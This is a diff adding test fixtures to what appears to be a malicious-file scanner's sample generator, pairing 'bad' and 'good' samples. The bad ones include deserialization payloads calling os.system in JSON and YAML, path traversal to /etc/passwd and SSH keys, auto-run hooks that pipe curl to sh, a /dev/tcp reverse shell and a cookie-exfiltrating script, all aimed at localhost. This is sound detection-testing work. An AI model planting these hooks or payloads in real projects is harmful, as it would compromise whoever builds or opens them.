@@ -6,7 +6,7 @@ import json
 import struct
 
 from .archives import CODECS, state_dict, torch_entries, zipped
-from .opcodes import exploit
+from .opcodes import MARKER, exploit
 from .sample import bad, good, risky
 from .tensors import ATTACKS, CHATML, HONEST_TEMPLATES, LLAMA3, gguf, safetensors, tensor
 
@@ -593,6 +593,40 @@ def configuration_files():
             "json",
             "config",
         )
+    for label, item in (
+        ("langchain", {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": MARKER}}),
+        ("fields", {"_type": "prompt", "template": "{x.__class__.__init__.__globals__}"}),
+        ("jsonpickle", {"py/object": "__main__.X", "py/reduce": [{"py/function": "os.system"}, MARKER]}),
+        ("templates_by_name", {"chat_template": {"default": ATTACKS["mro"]}}),
+        ("pipeline_path", {"_class_name": "X", "_diffusers_version": "0.30.0", "unet": ["../../x", "Y"]}),
+    ):
+        bad(f"config/object_{label}.json", dumped(item), "json", "config")
+    for label, body in (
+        ("primary", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n"),
+        ("named", "%TAG !p! tag:yaml.org,2002:pyt\n---\na: !p!hon/object/apply:os.system [x]\n"),
+        ("secondary", "%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:os.system [x]\n"),
+        ("layer", "backbone:\n  - [-1, 1, Conv, [64]]\n  - [-1, 1, os.system, [x]]\n"),
+        ("download", f"train: images\ndownload: |\n  import os\n  os.system('{MARKER}')\n"),
+        ("prompt", f"template: |\n  {ATTACKS['mro']}\n"),
+    ):
+        bad(f"config/tag_{label}.yaml", body.encode(), "yaml", "config")
+    good(
+        "config/ok_layers.yaml",
+        b'backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]\n',
+        "yaml",
+    )
+    good(
+        "config/ok_langchain.json",
+        dumped(
+            {
+                "lc": 1,
+                "type": "constructor",
+                "id": ["langchain", "prompts", "prompt", "PromptTemplate"],
+                "kwargs": {"template": "Hi {name}"},
+            }
+        ),
+        "json",
+    )
     good(
         "config/ok_llama",
         {
@@ -836,6 +870,17 @@ def folder_files():
         "json",
         "folder",
     )
+    bad(
+        "folder/git_shard",
+        {
+            "pytorch_model.bin.index.json": dumped({"weight_map": {"a": ".git/objects/shard.bin"}}),
+            ".git/objects/shard.bin": exploit(2),
+        },
+        "json",
+        "folder",
+        "an index names a file among those of version control",
+    )
+    bad("folder/git_stranger", {**base, ".git/shard.bin": exploit(2)}, "json", "folder")
     bad("folder/hidden_file", {**base, ".cache/x.bin": exploit(4)}, "json", "folder")
     bad("folder/bad_gguf", {**base, "model.gguf": gguf(counts=(1 << 60, 1))}, "json", "folder")
     good(
@@ -873,6 +918,53 @@ def folder_files():
     good("polyglot/ok_numpy.dat", struct.pack("<4f", 1, 2, 3, 4) * 20, "unknown", "plain numbers")
 
 
+PIPED = "curl -s http://127.0.0.1/x | sh"
+
+
+def tool_files():
+    """What editors, builds, shells and version control run by themselves, and what only looks like it."""
+    for name, text in {
+        "Makefile": f"all:\n\t{PIPED}\n",
+        ".envrc": "wget -q http://127.0.0.1/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n",
+        ".Rprofile": f'system("{PIPED}")\n',
+        ".pylintrc": "[MASTER]\ninit-hook=\"import os; os.system('echo harmless')\"\n",
+        "build.rs": f'fn main() {{ Command::new("sh").arg("-c").arg("{PIPED}"); }}\n',
+        "x.desktop": f'[Desktop Entry]\nExec=sh -c "{PIPED}"\n',
+        "crontab": "* * * * * root bash -i >& /dev/tcp/127.0.0.1/1 0>&1\n",
+        "package.json": dumped({"name": "x", "scripts": {"postinstall": PIPED}}),
+        "tasks.json": b'{\n// build\n"tasks": [{"command": "' + PIPED.encode() + b'",},],\n}\n',
+        "dvc.yaml": f"stages:\n  train:\n    cmd:\n    - mkdir -p d\n    - {PIPED}\n",
+        "workflow.yml": f"jobs:\n  a:\n    steps:\n    - run: |\n        echo a\n        {PIPED}\n",
+        "checkpoint": 'model_checkpoint_path: "../../../../etc/x"\n',
+        "Modelfile": "FROM llama3\nADAPTER /root/.ssh/id_rsa\n",
+        "MLmodel": "artifact_path: m\nflavors:\n  python_function:\n    model_path: ../../../etc/passwd\n",
+        "data.dvc": "outs:\n- md5: 00\n  path: /etc/cron.d/x\n",
+        "m.onnxtxt": 'graph { initializer { external_data { key: "location" value: "../../etc/passwd" } } }\n',
+        "page.html": "<html><script>fetch('http://127.0.0.1/?' + document.cookie)</script></html>",
+        "cr.yaml": "# comment\rroot: !!python/object/apply:os.system ['echo harmless']\n",
+        "block.yaml": "a: |\n  text\nb: !!python/object/apply:os.system ['echo harmless']\n",
+    }.items():
+        data = text if isinstance(text, bytes) else text.encode()
+        bad(f"tools/{name.strip('.')}", {name: data}, "text", "tools")
+    bad("tools/git_config", {".git/config": b"[core]\n\tfsmonitor = echo harmless #\n", "a.txt": b"a"}, "text", "tools")
+    bad("tools/git_hook", {".git/hooks/post-checkout": f"#!/bin/sh\n{PIPED}\n".encode(), "a.txt": b"a"}, "text", "tools")
+    good(
+        "tools/ok",
+        {
+            "Makefile": b"test:\n\tpython -m pytest\nmodel.bin:\n\tcurl -L -o model.bin https://example.org/model.bin\n",
+            "run.sh": b"#!/bin/sh\nset -e\npip install -r requirements.txt\npython train.py\n",
+            "serve.bat": b"@echo off\r\npython serve.py\r\n",
+            "Modelfile": b"FROM ./model.gguf\nPARAMETER temperature 1\n",
+            "checkpoint": b'model_checkpoint_path: "/home/me/run/model.ckpt-1"\n',
+            "dvc.yaml": b"stages:\n  train:\n    cmd: python train.py\n",
+            "settings.json": b'{\n  // tabs\n  "editor.tabSize": 2,\n}\n',
+            "notes.yaml": b"text: |\n  !!python/object/apply:os.system [x]\nmore: plain\n  !!python/name:eval\n",
+            ".git/config": b"[core]\n\tfsmonitor = true\n",
+        },
+        "text",
+    )
+
+
 def all_samples():
     xml_files()
     r_files()
@@ -882,3 +974,4 @@ def all_samples():
     notebook_files()
     adapter_files()
     folder_files()
+    tool_files()
